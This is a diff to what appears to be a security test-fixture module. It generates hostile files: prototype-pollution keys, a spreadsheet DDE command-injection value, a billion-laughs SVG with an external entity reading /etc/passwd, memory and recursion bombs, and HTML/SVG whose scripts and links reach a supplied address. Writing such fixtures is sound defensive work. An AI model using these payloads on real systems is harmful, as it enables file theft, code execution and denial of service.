@@ -81,6 +81,65 @@ export function hostileRuns(address: string): string {
   return `${lines.map((line) => JSON.stringify(line)).join("\n")}\n`;
 }
 
+/** Names that every object in JavaScript has already. */
+export const inheritedNames = ["__proto__", "constructor", "toString", "hasOwnProperty"] as const;
+
+/** Two runs with these as everything that has a name, and with values that a spreadsheet would take for formulas. */
+export function inheritedRuns(): string {
+  const each = (value: (name: string, at: number) => unknown): object =>
+    JSON.parse(
+      `{${inheritedNames.map((name, at) => `${JSON.stringify(name)}: ${JSON.stringify(value(name, at))}`).join(", ")}}`,
+    ) as object;
+  const lines = [1, 2].map((run) => ({
+    id: `inherited-${run}`,
+    name: `inherited ${run}`,
+    project: "inherited",
+    tags: inheritedNames,
+    params: {
+      ...each((_, at) => ({ broken: run + at })),
+      nested: each((_, at) => run * at),
+      formula: `=HYPERLINK("https://example.org/?"&A1,"${run}")`,
+      sum: `@SUM(1+${run})*cmd|' /C calc'!A0`,
+    },
+    metrics: each((_, at) => run + at / 10),
+    properties: each((name) => `+${name}`),
+  }));
+  return `${lines.map((line) => JSON.stringify(line)).join("\n")}\n`;
+}
+
+const svg = (attributes: string, inner: string): string =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`;
+
+/** Files that a run may leave behind to fill the memory, to wait for ever, or to reach `address`. */
+export function hostileOutputs(address: string): Readonly<Record<string, string | Uint8Array>> {
+  const laughs = Array.from(
+    { length: 12 },
+    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
+  ).join("");
+  return {
+    "laughs.svg": `<!DOCTYPE svg [<!ENTITY l0 "lol"><!ENTITY file SYSTEM "file:///etc/passwd">${laughs}]>${svg('width="40" height="40"', "<text>&l12;&file;</text>")}`,
+    "vast.svg": svg(
+      'width="1e9" height="1e9"',
+      '<rect width="1e9" height="1e9" filter="url(#f)"/><filter id="f"><feTurbulence/></filter>',
+    ),
+    "uses.svg": svg(
+      'width="40" height="40"',
+      `<g id="u0"><rect width="1" height="1"/></g>${Array.from({ length: 20 }, (_, at) => `<g id="u${at + 1}">${`<use xlink:href="#u${at}"/>`.repeat(10)}</g>`).join("")}`,
+    ),
+    "reaching.svg": svg(
+      'width="40" height="40" onload="broken=1"',
+      `<style>@import "${address}/svg.css"; @font-face {font-family: f; src: url(${address}/font)} text {font-family: f}</style><script href="${address}/svg.js"/><use href="${address}/use.svg#a"/><feImage href="${address}/fe"/><a href="${address}/clicked"><text y="20">text</text></a><animate onbegin="broken=1" attributeName="x" dur="1s"/>`,
+    ),
+    "reaching.html": `<meta http-equiv="refresh" content="0; url=${address}/refreshed"><base href="${address}/"><link rel="stylesheet" href="css"><link rel="prefetch" href="prefetched"><link rel="preconnect" href="${address}">
+<form id="f" method="post" action="posted" target="_top"><input name="a" value="b"></form><a id="a" href="top" target="_top">a</a><a id="b" href="popup" target="_blank">b</a><iframe src="framed"></iframe><object data="object"></object><embed src="embed"><video src="video" autoplay></video>
+<script>f.submit(); a.click(); b.click(); new WebSocket("${address.replace("http", "ws")}/socket"); new EventSource("events"); navigator.sendBeacon("beacon", "x"); new Worker("worker.js"); import("./module.js"); ${attempts(address)}</script>`,
+    "line.csv": `a,b\n${"x,".repeat(1_000)}`,
+    "aliases.yaml": hostilePipelines["aliases.yaml"] ?? "",
+    "deep.json": "[".repeat(200_000),
+    "keys.json": '{"__proto__": {"broken": 1}, "constructor": {"prototype": {"broken": 1}}}',
+  };
+}
+
 const step = "steps: {s: {run: touch broken}}\n";
 
 /** Pipeline files that must be refused by name and place, with nothing of them run. */
